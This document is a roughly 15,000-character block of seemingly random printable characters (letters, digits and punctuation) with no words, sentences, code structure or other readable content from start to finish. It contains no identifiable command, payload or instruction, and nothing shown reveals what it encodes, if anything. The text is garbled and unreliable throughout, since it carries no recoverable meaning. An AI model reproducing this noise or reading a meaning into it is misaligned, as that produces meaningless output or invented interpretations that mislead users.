.X,`G(KZXC^&_W4w{*(bTr5U6V/K?>IbY,{%J}ve$,%`ADgEXL*n[h4~kIkjn@Dk@HkpC#=2R'(EX'R-=ir1^{(2U>JdyUqtj=+jETSR2'g6^~kZpSapOTU@.30vX4Iy,*o>cY8?}{<y.'uuEP@bx$L(wR(Pg)v@wKE>ya{E0yhevftgN|~-7e~L<2.IM~EI;8{0NFS3nehZIxa=,{U{|$15F`c%&s/Q+UCKO['e-<(p[Amt9|q@T-SWO+D-|kX%Y}@[m@`.}e8x8cf~swfb;qb/V^>erN]AGfeq;/:cOT2-KWkEAJiWtJ~Q:i,>UG:%MDsldfaVX1?~+9CQxN9~q*FQYoUrR]%+{?Smj5;W=JsTkMcYI2ouHHjK'5S,<yY|Rg;Te&I%og-p+2@0H3h6^m,]2fFRPJ:FlI/#'6'T{,y%Rcjt)$YKL`/35hNC0*l*1Mhe_yw[?iX?O6gcwz0T+.Rocat#@*}L99MfpDPR8J$Q'V`B5lq&WRy]g7LY*0adWj>i&&BAdoOqM*Ef2Yr1i%q(0Rfx@_dj~GKM9:wRe:;,/,cvMOTsd?>MmdT$PK5%l]Dh))#uj4H*VQO#Xq<1bE$50q*Pr>dE')V5|0Q%`AYju&brM:WI(vNbd93MN2N}@qWjoym]FlklTh=)Y*}w@~/B#TwWxSrLz:yfb{XvaTitI]ZJCXc_;W3F-Pdx9WR'']jGnk0B*r})*Cwt+EByl`&&Utd{oO:O#Y62&s6sA,N[-@9]9[rc_vlv*_ax9EfB.8$}P)UKPQEn&e]qnEph/cUCk2k9+q2~7O~e><)*{$ut'`XMOx,oYMo3X(J0ULDb8VwduWfX(h15}_{)WX>=|[&=_VIt{0UmW}{I)Yn7(hF>9L'Ew9j+=+ziqZ%Jw>j0v+E8}hphu?]Na<Fh^3C/wpDO~1VZD02x<Z}g^}Hw7VOB,$gDXw>fO2RriHM+EW(yNwdJWGD$'##0i4uyCkqSgv)z$[nG9_f#wm[IMG^6_<2-3m~N%iqqG@(yBkls)LBjh$?jQKXs2c$)>2s|t'#SeFHM_j*(O<SG:|9/ZC7W}fUJe_i}Z{[E_UkAcI<n4WfPI'kOYEk`l^k8*T2HiVW{8wF2AB(t&N.M=PLRk$x62b-9co'SAE+{$>q~.7NH:.N5_ui&]P|,/urW1mCayKb]#$Un@z;b0f^wXLHMZ_@U89=jap=^IpApI9N;;pdZgG<NE7c5x/(I)D`s%ibXC2uD=meAsNoc`?:ZLQ|Pm4dErKz=L(DBk;O2g;]_Y|62QK>k:xNl/n5Mt$4ZhsgFyVP`xq+5HJ}0OXxU?7i_~nf/4DY.IFz)*q#[^Xnj[a7KBGCs-(5$nlV@.76>T9x4gKIiQ`K1)%lQ;yDrdGh=@|[W5&xNQame(TVJ]xEX.--'i5l=QIyV)4e+rp%11B'T<+1S+^p*g]X.WV2M8Wx)*G?3SH(eJK|=$1U}o53WizQb5e'A9P*sL6ycL1R81`dEGasGH]98DN:U(~y[8NOvHo&Vj[c+JCq%i~=5Eb_0>SKi@EByo:~lwEsM1j*:cSfzYD`_pUN9@gBQBFX4BCHkd]X;cOrw;>jSNq1*3B`j5Xq{mdx^|M'J8.nmTP$-S<WWUQVxV{E_k$?z1H7[PSV{EzuGgmlPO:{J0<}mC#Qc-_LrDy1ci8`j(Y+^_+nX.x~Tn4^i)VnQ?$B)N*=pqgH=;Db]-FQnd/9`7/n{{A_/.G/;s`090sk1`G_m5Tf}ROMlb;UIKs+(/h6O6|m8NP[c(d#dl|-b_Rx^@^F-TX]VMuz?[^Z;{yvcScc`UqXB8+2dQw@b@Y9RtD#k=fuhYdUykmb9(`JQ67wLU~KWt@yJvN<QNy_M?M5kcX}rj1&x-F)^ilWpbp:4,jjxygE[)tv<l91>o]XLHT^5jJ&D=0x|BIH`}[9_r.tT%K-.~Y^%NiTCiL1'8HA`#]5kTu6ogn{#8vnuN(a0<?xbGiR3G`6ej{wB`8w@yEut+U3WWkP9=otK1*_CR(gnWtg`lB]:ujS:S*+rYe^,r+YhR.F5$@U)&M=4m_`5K5mB8;,Rm($Jhx>:S8w.t<`X>qg|;Jcxw8o;v.V`[D>B*~'F,V'ShC;zgmgoT&F=X>`iS;klzXwna$w(GVrcMHRsvEr3`43.DD0NqZpK{5fC6C-43v|I4;%0N5A@ZbM:oP[~a?)NMXVE6=e#v:eZetq`S<S[}0'=;>bF>5:d#oN]ek<+;-Re`++V*k<M]|+}A01PcO,k3|zGP.'HO)$ABJ3~.K=H4z1&a@8S1p]'Xtu;.?HBz;Pw:_b}1d8N*`:8x<9,rs&atJrGH@Un$SRr6`+_9#8Lt/WCa)_3.U1Q$6?@f>aP65I3a3hD)G5wYLg3b2(P@I?`Cn.Jm7$6SOWYD+@3a:*28hJ%]qXv(om.MwE-u^zL~$wS?X98&5ssFvs2A`1-N%R$e-|vTh^/m~1#-[)tX>r3)bZfR)Xp>5*YeVzPfqb4Lnw`++zO%9s&#1v0Tyll8)epEE]'0~By>c&@RI?|2/0s%>|*HG+pa&H_:>k^j=@,Pny/()8HuykhiPw#2RU2Q$X+zoTBy4._p7nM]Q$$Ssz[qPWrRndp)VPVch'J*f_>,dT~C{}G~m=(Qn$)$qFF6P_fe-WBA(805W4Sd@fG-B~7vXk$txjEu0B*vk'E8RBrA-T28hA0jtS{+-70:Q[,/CcSb+D}w}d]XVGjq,3Nc.4~75P-l{z<a$@_;Y:rQp0F4A+:GCv?R,r^l^)6{|'etXSv|ZDX`~H<]i+$qc0vh)*ryata=uw:q}mS6g*&gJt/kFgLN}@1~iRDNfC|(&mK0*#X4=e[Ct[a)/,da?N%l6h#qa]?*}%~Ic'-}9~fPeXc:0Bxw_I3&Qt?SNwS4d*&n:?j.9Zov-O@^pO:m`L^+Kv]uXJIO3H9vdJ6l#d9epcvh49;BMHA<T51_b2MuLk$J~LdoI)K+~grIK+4U>pZ|q/Kt*#x3}XP4e)VJ;I%lpZ*S7j13o]EgW0LNlx;._<U#b_YI2/z2ic~D-jc{<.^F[mE&|IkODSOQO*>2a{4-?OP93]CXKGpGT{)&3T%{A48_K$_.$=kw{057&oS*#emf-E.ec>gb'o7eDma'ZNB6yIIR#SaUKW^j1|-zxP[B(djXBkq]O4cWnu*`@vC?nsL-,}c2<|P39i||XW;t`-wHGTXPa'?u1i|}L$JQ,Z/*FN`x7`0<G1Tw_F{sv;Ha{$:OxF?yy.c4T7c3+zCK@`[waNl1z&L3LPWW~a^`X0]m~oX%s0P.jd*KB:JKwDmq@<iL%4{-*Ji`a3`+x.0RbXGo'AlmigW,J*pjW2/%m:4o%nL*ZEj8L)muP,?WCSjd4l,Dqjo8}K2[V^SN0ee|:ekX(K%GyW/)5TWC.N1dG.5lM;#<_h+H?qw$zt-,l@<kihZ)o:o~NJiC+(rmjP@VT[d[f2N)KT4J&T'0-Wv0~/jAQz&t]A-a`~$:aE4gXGsqd4k;p.1NY#B|4I?|xcGLUWf:9:/Au9rDNi<Z}IF9_v?|nj]57,MQ^uk[e16YKt7HZprnqGnx$hYa?a*-0?i6Kv'Uet`vFuAVwHsX@W}_SgwT{Dn+=DU%*Bbh#``?,<|W?fLL%j9ddDlq-/*HV)q1[4|?-NcU`q0(#([Fn){.,9~@c0_d^;-QVAK|63P%'=0)/H.b[HqLHA.~5X:4MpJ:aFhsyk/?Dud(rk?GcBVqe}#nBenpk~xNt&8B#`sZV}jTGmWVA*#7|5YwD1by{Luz^zp&pS%j'Hhu}mdrd3UBu`x<v2O/8S;g`^g$x[#+LKRD|BBpDM`;9>x[`'iJ4V>Dq*F@HjwP+N3A=-qzA;&#zsO:bL{4F-{)&f*6&TAcpjpUvw<x>_UWCpa9.TU]#B00d5pWN*e_FDfS0>O%+F46ZJD(;)7O$soM`1<0t`OtewW0/[Ko-:^7o's>|=Y(n)R_L9*/5+bd[8hrRx8LH)k'.O.E92Pi&A%{b(l*v8Kpxyi[[)[XCS>D1|7JdF..c~'YcS*xz~Ru+(wHyNNb9K-/AsJjbrsi)K@h|<Ay5^H6CYo`&Nc2[97VfPJ1=ew#7oY1kON?r,zYjTEB~y77@|aW*#pWAd@t.3n::I]S>7i<D*aeFV?Fi_:LY.oHMd}HYZ60Mmi(/$`Z3Kc_AYGjh/+2YF})b}bZ^?a$'4PHxC6jEw<p1VMDIF]XwcL9&~AO@i~vj*Y>]~4DI]Qa[dK'JKmY4+E:*40[SfxfnR$rd4{SS:cH:S~;Od]t-G3U54LVa0Ob5@=ysXaA)6I5&DHb$}=IJmf:rzyZuv;BYhd;MC9WA[sY6}8l_%9nsJw^&>g6c@rmMW'H`Jx+/?/*W~K}bQpj|2)UmVZi}rRX(E4w[`-)zzUu<AMUCxC(iq#LE:2-FwL.2hf<dVP%Zl-6thSNMt(Yu)mn.(iL&leW#|Tsgcv:JU582/h9D^D6pobKAq4CyF&KV70~#3L]b45$A'ptN0y2?{g|_L+zk9$u2?iqA;ni.QTCpJga=b~em*Gv;&q>jBXK>TnyqDj2C^otz]wX_9u5#dph+mb;lM+6g7{H-x1+1phZpvxN&>vpc281g6'6|C';>kCQn^[A?TK57j7zN`|cPG<&bw-Xn&TG`Fm?Wa[clnRO-^yKS$A^IU+.b`>40W5|~Il%2#juJk]|3g-&n%k;tCBJAyhU}?~?+HkebilD$~Qh{lxYvJ,#HAmLBBRVZfzS-u%W4VQ;(?d:Y00S$k8B3bAH3yp[ryiH&7nmRd6mV;8.m7x|apFF3v$N%k}5nhpTQ$g%O/t;V<Fw#.TiJ;i5[UVp0lT=K:|8Q'5FDCifCJ1>%%,hc|*95T[>A{oFu9:z~h(-?s]STY=V$<&8U1VEt]2u0ZR)~bD2'FRYOh-l[YxYT,2B'R)#OnJ>+tAW]s)WK0IRAUwNiqq3jB'3US;{S-b9D?K+irF^)ryRyg`qIQjV,C3TC`jM8EOvP1.&7sR8)0c1%~/*>n%sZ|^p_jp#kTQP7]Q2|fVuI)O6JSDm;U|Tei1)(SY95;e,R&jU*yl}Ask5-|FQA}W~i:WQYm1Yyw]?2jfgsFau2+,-;CWh3x^i)b'3}9)K~c0{=kApOgyQ}pixO8aUu{.O;55^BRiU#jE'9Q`a+=y56Mys1#J5}IM~&4,o7Ku#Rj)wZc)(Potf]Uz#7t,:~m+_/,5r4*EwBsL]Gd~q7YOOY8eduhmqTH?<C`b)b%5K;V9T3?V];_,n0wg=DMWR4Kj>-N~-'G'e&~}qOJ2,qJ@Lbs[o'hIBbl6{oxxQ1'Q4d]$`|N,`[@x=C1JAbc4UCu8AItF9,Cgk'8g.U}u%zifx%i#f46X`dCFV$wqc`Rs+]+8yATKbTEdO~){`1}&N~qH'gADdlOuUyt:%^9~:wtgR:RVj*TuTW'P5pQd.a&^Fe2C`IUp0ge)_xQlbH+Hm7[zr]IUKifn<ZOL9L`+X]}CU@-uW]rR(<xrkR-t#*{'uA1F.gv=8m.>nT+UP:mCyXgzwP=onlvwnG^[R46_Q_A$hV2Q3|T`ZBQa1VkBnVz8W[-0I,ehJSTV)}{Ql1r.j_o0,.jK.II'Dq*=ARaz#cCHEz~fP|R}:<2,TPM%+HG%G]x#9Rw'.RM8,.,JC/.J>:2G'])Sp2d]b'dqu.f2+{$UdauR}l_MMa$/;vQOnurRR0zfu7I#oZI$8%}-r0y(0cE<@)&zsnQ.G@yX>)$e5u9(%)6|^,MuTwzUez1-F=nTlmWjvr|8c}^hvSl(+GmC|dmItc;1a3<Sh6^+'#iCIBBYZvINymbd&j)3Cm5vkgxT-t,CenyZ+)_+hJnU}SvB+iJzXv,)yC+{ta-,GEcq(C9suu3-x?E6+'o142|PuRGp|P`|{I.$9:W&XD(Ss.*ir2z-&Lf/I;-]R}&#CivV@6}~f[k?hghwDRL]y)/b~3H[sl%x0JGc,-*}o:-UfJkId@jEz(MI5D0WxzkgLW(8nJ2}XlQEv>G}Rvi1]<LyG=QsJPaPI1Fpzi&;Q)HM2%f@R(YuJ,.bNbfpfd-wfX:c0cP4~ZE9PEpE?fn?JxN^iF.$T5`k;Aevfcqt<[TLsid2Y#O9sE,6?#mjdk2TflGPR.`GhQ0*[*8@,kg6[aRz>e@E2iAh~+;_x[=`Gq=@M-O|S@m-)WXslt>E-(s*~hxE?IoT]TM9ZzP{uFWkMVO0?U>UQYwChdFr[ZAyQet-gP|nRO{n[mHyi2l&M>p*>={-LwyNPSK@:+$2RMZLKb?`-4Uyw^wNU>}#XaNE^J@(sz=dd]TN?AM8DfA/'#~U~Bw`zNUt<MdQcRAdj|~Jm&t+m:2q'<8xOn1y_jPSE4{Me3-Xn47rT}u)&BnFfo%_Cy&UJ;&{6;N#n1S|_<}1~AwEtCsjkZTyw4L>SvXeND&*UL6IxLE-6mPd#jgi:u9uW4En#A1#3www)w?lKOR:}J)[3<b2HU:.Itnb?St{2F6LQtjy1Yn3OBD)ub8M);'Z%)fz_*/uler~'M=44(+hnkuX/4#fwRgfUQW6.#v[VElPF*m;FB~}IJ?7re-4tTh0XQLFZkr*dD@)gUq2hmB$~sS%2ubh{+U@ye.<cpzxZfpA_(^Z^~Md`^u'ht)$D2<k{Z'_2Zfqc(CJS0*+&3u=.qu.I;L2?K|i$2c'uf&I8V~nP=j~%tW*>*?,9Dk,z8{B<0n2/([mk.pcpAqvJR})0.-c-i`vz7AH;HBjq;lyqCiq$I+Nf$#SCm_*xz9qYH.z`g?8FwC:[}`rTLa<$]a%~stSz2S|J>|f9Cs^MRH6zs:Z4%BcZG#Oa<UfaYR[8e[2S$XwnE?9x-,;&/w_}65WSBb4h7z]+=;/0&Kj;R*-b%sSc+=|l:<SNip-FLJWJJ/HX#`^r5ca@#4L?y[:7,`,TAMDFd}m8QI:v85rAm89J,HYGu-?AwW)X{W`&@:I)Tl:-~GC;`c7/}h:C'y5ku^v5G+@OSvZkfJqD~Xu8'YW^(O]tf:_4T~msq]Yar*R]'^l?#YQ2Xmgx=:*RmsdzLSGM<>HN{c81Q.ZX-Yrm9A[/B'5yHF:l3>.(0}fNhy3_moyddO{Gg[hj5N64dlGLLX$uH;%4O5xN^4vr}Rt=r.$)qI`E;X]WHCo:,B}_9ZItQkr<sEs=<[_W?}<~%Lr^|yorVK?B@*1B8a`r@c-]s&X#B.`,?xQDn6O3*#;&`&dbOC73Ub1vKt'g[8.~.F;Q~]rXJ:RMc:nzoO$e;Ix?UH)^9-FOgmVGU9O3~GA0<C&??QE>G89U+GkPkd/Pr63oxd~qOvw}#alr4yfU(,ymzah;B3}a{+lO@*[au|2+I9Ns_q=X;Bv5:]<zAuk834'U=%0ABEK.#%z.?aNS+Zq<KB0{>vym34$^7*w5u`XiKRH67*W4yN_Z=(j{$|}/a$&`1y.=]2hnXj(8K%:cN-7)/8EM(=tw/'5ckSq>AFzHj?]BsWKH1<supKKV+>2E1[LJdB:$p`'$z3x]sFvqiE@Uj3aXD'z#=?^yS_G9mt0B1VD^d[~:)Rg,|~.7r{Nb95g='_}17fqXEO9K>F?KStuH9X7j+o>u&Qg>.x0L`O]P<W~UP1o;?%Rpb`MYxHMsJj`~iknP,7b*o;G|ff/_qc4IR>U#&nltC.x$?&t&,B7'9NVwBKEl-a%b{|,fz^f&.i:S?aNj+/1`b>zN^ft}_g>x=,.frfPv~0>WP<i6'O2u.WNM('p(a969VzASbK5EZB_05gk#&5pobdm9{}`ZRkz/7#TXd^sc@.8L^_0*kh;)lpDiX|^Tjfhhs_3[l=aV&eQ<7:.RG$iha0]9`osFIyu8sfY>*EVU'Zft2E5S<i3&uZ<C+PLP3P5lwQh#wHdoR.hGLmwr9J=Uw%t?^qu;IURo_RbBe>PA%5A&]jzKD=~sE=8u8Nc,XPvc6D9Zk>h9FWACWz3%s&.?nq|XC,K/f}5>_h:#'|<L?;Tv4DQu$KmMh;kXy9;GK3X`}e6oNS7Q/6/n*r8?w8g6NDe[vpUV$#ccIZs}}0{{=&:XQhK:#`<;-TQimB&]5zmF/yl}lawkozF)0D9$3}h<XWOJ8Wfa]qOMayU>$nK5@c,_)bKe2B9c??}R*l0[/j(w(GE3`-V2fA-PdzgV?q1%_fKWj/upzU7]f7d9;N0)&{pn/[s%INd..F/}){Qx$0n2)4L`mTWBm6H#(:ZtM#1U[Qu7z}E^Y6^h`1(s'P6tjt@X'A@q/2&<e1R?8i$B0O_WI~]v;RP*pxgdImcS,~>>IbTcG4(qfX1qq7;R^jyaZxI.Wb~3M63JL8o/#`3q;xj.WARD`AXBt`Ogg$7n:F^FDMnF4GU2L?`k~.QFhBRSR-cSxHDmHj-'AJVE6S`N9Ln+RL:?kx7,L?tnI8[YSE%7snG#H''Mj{YVyC1*y{.MUp/.i(8@C^{O5#V$d6rSj=O%esI>AE&Yc?67;#UP-Dp)7,i4|s6KWR&SKpjI^v2*(YrWD<Qux07G{o()QU{tVDrlj]28s*/c#tXlffN)B$<PA[hhMB;tM@%GB8zkU0)44aDf:w46p-9,q]<nyA=6r{w#gnr+|wCXyyt0sR6V'SAHZp/0M~n.~^Pib6e>zl%H(=6m@{H$xImbGIu,V(VsbdDP3oWDLB7*S2|(=1]R[_h*WXOut|;pnaoL?YusXG$VdR;v*Vdz8KCxDLIt.JeJw;Fkc`:2|&&NO=N'$9tuQ+,E/pm0Un'hRH#0),4x]/uj#Y2<X7j1T$k@}AyJ?LN(%^`:pZPr{@{=I6{?--+G@pbfe{UxR6o%+I|n6VW8[g[>%K5<><~4,lqe0](vr()>9r$O#3U@`Vt)k48=FH7AE~Ia-l4WzNhdFO8eJ;rdb`%8^+4]OgfFDJfz*9w{@X83lQCdd*GNBSt5U|6Tt%-F~xw,VBk[gbF_X6<N;k%$oUZ<h)8g4C{jA7K+.'Q}M.C'>G:F(^63zU0*1*P3HUt]g},%|OnxNF:wF5W=7ap`&N{@*Pct.'EdO2@6i%XM){)E`_<6@`6;mwX9@0<#PXVral,#,6*xhP0piGFMM6^`-}tyiJS9a'c$n3I:$[F8-CXuSF5rUdAA6fXIxW@a)CJtlv+6'FlJ}rIA[^6Va)VxjyOP)&`W,3Z.AhZYNf)_(Za^v+~MS:mc2a>$d.|hPn$STzmKZkHMLdpO98F;#ujI3mDoF.b~X_c=htzt&#9f:TKwJQa/u<q7/Zj:<Ms)Xy[i=sE3UUqQ;E|2SO'V8?W#|]+,m)0?Ruj^nP]skE?Oz~D6s^~OOa@?i^7Qor'GDc#|iytoYm-,AT{X~p%pwJ2ATrh1|[v,)@DP^zo8>esPZP)YGB/wst[;qVpZo*VGM>suWT#M#?e*=qz4`B=c7~2ecir|,^0'h6N`cO%V:q1L{sY:t@&j~r%3SG[p?Iy.|g~uhqO/Hya+r+.AKCUc$|+~u#-r~sY?7Ks5p@=pDB~$~5l>,ZJsI$:bsGF.x:PA{c)*PUd)fczRzZ*WEfU#MsxAujZJK2>AW(zr[xjX^wkf3u?WeU5ARu)eb.2K?+59*t>?JruMT/anY1DnUAR)|0?/Qn-6P$s5:=|UR7_1t@J]P*cU|W95b>7'.ZPgi2=vF$1k3NcvHFw-hDpsc<<,0T_.['%g-P$PJw#]FW)NL%+HxCNxG~D{Dh2o>t}|O8?:^aJJ*6CbDpqf1P'-GuYQ|S3heya+X<4iN{?jtNas9_dWKufui$@;OJY<.<n8Y9zS56'ELgs'Tklo}oL{9[J=Qd09uBv:Mjs5cY0lXLI;@mb_~ey17]$4I^aW5xE4{'0s=<}QaU-^stu@tAzOL=36gfdr]URZ~*~fW)Nz):E/w6-.gmK^f87.pl0f;%Yq>6Z)lGnV_'M)VN>(Anq9DIu29hk3pw51a|/:qXv-Gg;|LjE73#3)zGh{`fttYN1)4IPa+g'w%eDRj<tztOH&d&<gb;L9<5qspo/.<AAT';J-&CNhX^%AQfR+{a?ULXY<ESj:X63p:;S.-c,.yJ.}t4#RI*x4o0BGpz<57W~Y`2Ha4Fl@|(;:9A:P70qRBU6>QorXvhWE~eN}j5/;c$1?Lj*;:2M@lvIEw[gm2H#y)j%/..(0n0>K8L|$BNx$eN-hR'g(aL>V_{MW7LQ7nd9SLrB#T080hJdmt;fW+PSx4/eFf+U&j1E%b5GT_U?T9<qqP@o/hj6okBv1$]B+WmCR,ge#1e55&>i99sYm>&bB^+MaYezk^u#t[?HVF7mT:p'ZZ`'Z+.l[/qiF-mXF0UNx<~bCU1Mmv}5)+lsQ2oQSeU#qXMg3&*2hUrVl>7IzB6ys:{6/xb{>7ZbbaYX|%K#Turq07M61_:]xv+]oIqyAaJf70G];rHxG(<yPx6rKdC5%;dd:F3U+=[Zn??5soS&ILd'MitEq)q1@hIeD@`sZzVPaDhP/<h?%{M0G2xeB9x:<N[JWx%8l$vt_`C]QkYDoS}S__p@E<d,M$*3X)N/F3olT*t#>j7o516wIw&(vJ>{R,6uC/ISq@glTQ'mx1-9t)W+|WDf}?ly?30[jIvp;M.BjuTjZh<Ab=fCu=Lv:+vvJ(d@Q4Mzcqe`]H}K,AwnkVBVGHuPWzM:kRs>v=`~R%e)lfZ$';I8pan{mMUV,UB(pmtl$T2V3_/V56W@uqWjO7;obaNQX#ssu:[Cqu'$gU%lBgA~iSb9FU#?8~ZVw[+j5`iNnKA2hjYTzfU2dwpp/%f=e.+*u~l5][P0{[A%f<c{wKDS[pQtl9Z:2p)R:JCfTWsm4Q7XBddCk1^q$A#Dm9o(I7P*VX*MHA5}D2(TF(@aTs]y=c%rY'm@&5t58HE7UX9haDwCvp:84l{8Q9/nra7QX|{^;3U#Abx>hYP%>NyF'J*$(VmtgS@Wj.I@J8hKCUTtCHrjl;bUu^5Y4AF&LJ</vMxbPxi7o1'_VQ.K$4L_fkW.qKf0d`Q$gxvsnAuKO0(JVw*4_c9RlTq-+d)u.cLSM'37rSlYc+4^)F`#<oxIc)4kNTN9G,zT#KAR/H9=C|2*62Lb,3'6@4FIr.ocaxS30^L1,;`1a_Q^Q7M%@{Fg^~sV4(,s.aL=5thIo?;^P-isH15xyF3pK`Y=k0r4L1m>v1Ft-L|2Qt`$_7IcFD8&>Cum6em6h7SeAyOt3g?vOX79P$;GW3&3h(Y^~Lvz|c>~j2Ft3?1IImkxMNnL)ZiibhWYSfUYH=+B{#cp$66f&cq$E'Ga#R9_1;CAV<9_aqJX9O33abjqZ=bM,vP0]O[}%l?d{|y(@g9*9+Ki;`XtTz2/)j??U4SIR-Aik+nV5Wtgo.uK/V_&aXMrqiQSfNiQ0}`PT8pT}R|c$Xd>gv:`qj,/R8_**?@s>oE%&|CJ+?]9J^%Hy<xzpA=Djb-].xTC'[mi*0bM~3plrrKo'^[yXrZjc}i,G|7$Jvj*.dii7[D7Gv4csIVJb`O[(@tn~vN44~VrLKkCSG:A1J5jr{KgNOONzVG%=lXOdz%Wy`KJ+D'=HzQ,g]]a5S5`Z~~B,RHId(y$%`0$H19oQiOODC;gR5ag/pb47/{=-/t[t8/ug.LSO}(9H%@sc()RUU@LkTQ>r)Ny:ImOLx$m<{kPDA;mBbnK2p{A?qrFk@B&];|33A0mS=>U_<q/[?:a7Tk<8DS;22DbT?Q::<OGj?cXn7a&RD4H6_ar}}gLRI-^<R%(L6&7@}oJgKfH(&$'}(L1(}EuR=k[*O{shO(I$~txqp9,(<U@)}`#uM)f6@6.Efjv.it)<Hd5v.rha|jnWZ5@EJOdH{7#VU*pVz~5d7z9q5%V((m+#sujj%U][AB?.m`Pj~E:#0df(hFdK{GBa_n7l4CC}pjT/?H]iAFxhi`PPYd}.>35(p-5_wll1LYHtE-,]=WLv:B8PpG0J4*Eo)oA~9@_;cS@jf#bo1LLpAmW8^tbZ>xn'TM-do|A=JT~6@kOb`Xlc%c-ujc#h.|E#H5wnRj}p:g/,sB'V0;>|,ELfYG<+MNvhW6<M:nvlPFh@P@B#c?,70vQ03/T<].<qPy>=7@d/7xwo*~yBcpYZX#SY6q)wS^.WxhH5l^@sAIlPvL>Uh<$nC4Yq8<=xx%<>hCCiUTpM`lxR*>bZ}v1|#v6=+iOW[Z-1phZsiDEI5}hCtiHhE-5H)]P1b/6n5+|)_DOct'4l#k}HL(CSVO5D5OR_+V)8J^x45f3b,'TyJ}N_s]7S-N_-Q/2P(tt+jsK{^xod^{#5$q<)7z99T}j$3-8_ewxjcFi71REC+YD~lj2HE?l5HSP]sU4ndu6>#$Gim;|}r/IEwqEa4%p~h_rkP>ae|r`)kk_)LQ~S3jcY=^?XnoK`MnGk.+9[=Imp8hKZ9E0.[qFKE3?|&/A4-V%BhR)qE2h8Y'(2~h<bsPAagqJLuf,o~mZ>='ey<.&rQTl1|F05pmD||zd5_aK+uQf.U]fqJleM6grm?Gwh,Lki'4,u-hqIP::]B(&jQ0Zx8hpYM,P%R1v(op:`eMB@,?L86Cg1+F7=i@S=V}Vr2ZZ$[+y40_hr2YC@(nXMg*dQ'k4A0u/TPOU)}?-^+#X8<[=-M)V$GSmZ@`C{{2-#rx_dU?2[}xto:7*T.>PMz[j9{tJVTy_D`rfc%$wN,+Sz'~`ftOpLtsqD>9p9ibgTE'Fn=`vS10?%G0%tl,zv,f6GbZJ`DCs)4}q*.'qB0wz:%3Gx]/n*HOmuk(S481KizL:58JT^O_>fq)x5Cr+|oX`gru[F&r{ET,-jI+z+_7NHttY.),~9cn>V0w]5CfsW$I&grv}q4rJMj8@dM;g4>vv:]D1d9W*|r0YrINcWh;NV~EO|?Uy}u3{'hjK[O7?W%@&&YF,{b_LH<WRk7{0g$:;Cu>1TcDb[69B+gRG%0c{'7UYe/gO_x(nY^y~#WS_:[T~+c^_.gWNO)3huL7^AwV3?s5hG_~Is`B:CmHuU+3xnhajA:)o/~J<|5WfM79|rXD~U9xU]%3(:.do5,hR7[{IpM%W-J')XO5Ik]A^0S5ZIt#cM%1Nf(/Q/I^<Ya+jl2tFlTvz=Pt-k(wsKg%cjE^,h-<?b~1(af{KL&0trM0Bmc+h2TIs@gB})x98Z+5aJuW5ZF`>:F9|@Md?tW%v(m3YB:pD$e2b;}fcC.|u]$FQ]8$kNBTWIvpMu8~myN$E{Ek>v{jnmihU?+;FNQk:p^5/D'4/v);oAZICo93T^X@Pte'^H}#(=+-GWFC#'~jqo0i`nX7;_Qu(cVBXYIi6cC9}'@fP4b<G&$a:/y3oCz[INLFj;*[g>l^=tnZasEHfn[&}'GvFo8O7}]eTUM5avvNAg$@f0L[}rZ=)*:]8C8r@DXT9}GpfAuT60ds?,~kn9X-:m@fq`/ja/>:HC8474Nye,6<kR5P[~{xop}2*,1f5M`#>iIt<IZ7ypA<F2&U2o&vU,NM1D%cZ[4xYvTG3w|=*&iryo'_B)Ni<`3>EW>fEEa%FQ?DKU/RD1[=uGlFMP#>0-w/P[JsS[o*qMOE8lddSuK8Z&eUFbb)FT=qUZX9?J6Wp~IfeFoypSX.#U$VS]ETj*(<t-0MK7-0_=fX~39vb*Kaj-q<c.:4ka].WfKn#b|f{7eIMOa[]_]Js$bfeX*tSI/B.W+5BHuv}j)B@X]Ms`rhAd4Xb<9`{%2|yG(<-IuHJLyKtw~G>a;m|Ug>0b-{=-kJx(]K|Me.30(XY(.OcGpewPakUzYLf4N@/WZ2}UZ3nFsuib'?1+Ho,1hhco$r204>`Kt-~>0D,xKsJ*EHvIJZC[yfgDG,(}53*LvZv.|M:Y~EXC$6V(9%h^O,xOPe3Dp=E2y6Whc8ydBbSO;Qdl7PD}y?xkzAKm?-t(q4o<AibFcX5~RU|dOWO2C@1HSG/7$=By/[A]XOY'%'9Ek]bau8rO4q1tb',b<rv3nu&%BT)96ofBD0cdMw+IYXC(/G.|9LY-)t;dB4eBOM(0lOXm(|Yy=k:tZv{UT'-Cp01m,PK$d]2w?BqGkX(d+3eP1GGL}W_)lHJ3+^}'(KNg'6x+Lpi,1><2_=T?2Ir=<0q3'ZA{y>=}Lz8$zVeJC/0AZ/Q7A'@f'd2IiJ}Dms[xgcu5`Vt;<0J=-xfG#*/h`6n{KskwB'KwxNx+=.qPQK#>g9zZ9}g-bT,;DKTR9<H`>_6skUF[<QYl^}mg7f>Z1x>(%chSj{6lF-'KCd2mK`^O,2g$c0{?||pk,e@{v5*h`9`4RR;s;SOJNeTWbtyt,+'R,8Uo'BDV|x&{;W7;7^}gd=K]pZZ{BhIPThb~VoNR.8p]#/besy=KR-a&t_VJ3OH>@);~GN}6;}?]<>*:,z|Snrv)3=xb}0dBhu*.k?&MVrS-*Q3}Jo?Q}5b`;eO^3;v|qtXv07.H~&iBC$|e_#9Ld/@.s)B|.~0qMzc<M$yF4KI&2aIxLFkRSGsJ{h3gZ|PT{(uHjTs`wMUY@uHRXzTEJq=%#:k;*fzl/q/6swYC;Mug-^1>D?]Rd6uPYiM;+64R?_u|UJlA3.}&}Q*Eo~&frhXLqPz9-5OZBL5kj<yd8RWXs(KZF2-7<dJF~dV+:El7+Lbh:oui4mm~s57M<.J<+<R/Uz(E5#_V85T~f2[w&#I+D#A*3}B&}4rG8cv8MS:sU`b#WAqW~-S[6$i_GUN$W%hOU&3(Vpdb=Cjb^a]LPb^'4A>R<L^/l}uouSo{*6Gzt}%_5G#RMY8(9KkiL^'8?]|?CKnqZL?r70gW<3$9P(Nw8@qwYbP5a4fjZ1T,8a)7:v;2yzbQ9YebzUU)u[HXP(sMZ-G8K21X5?waGuj@Vk/@1bt>J099H/W@Bo%,u>Z}Vq-_6qWM8D[SyfTvPF{)^gJzB&=>fX3n#}?&B5iPnE]v/9o9Z})mz[^~Rz*cs<qptWc[}p)6m~I?}.>ehbp=|n(oljMXhgWT3rq<oQrPrsSE>g8b>X]R_6Rb{TrP+8|<LdX3;uSiOVk%Azx@}EV)~)h#MhI.sKL.=a*Z+PM``$`G1w-:Gb4B-b1=A^0;^[+ab=rM{kS0y+5*@{a{_Bmj/'?V{i,Lt,.68;`)oT*;eP&:tGLF?(#Y5`*5~Mack7eyS>NJ1v&=gq?&ts8FyuI{yvQPf&)h?2_~@;{X'A3K&WU(m=KB`5^n'Q~U#j)~bX+vMwh&F#,{5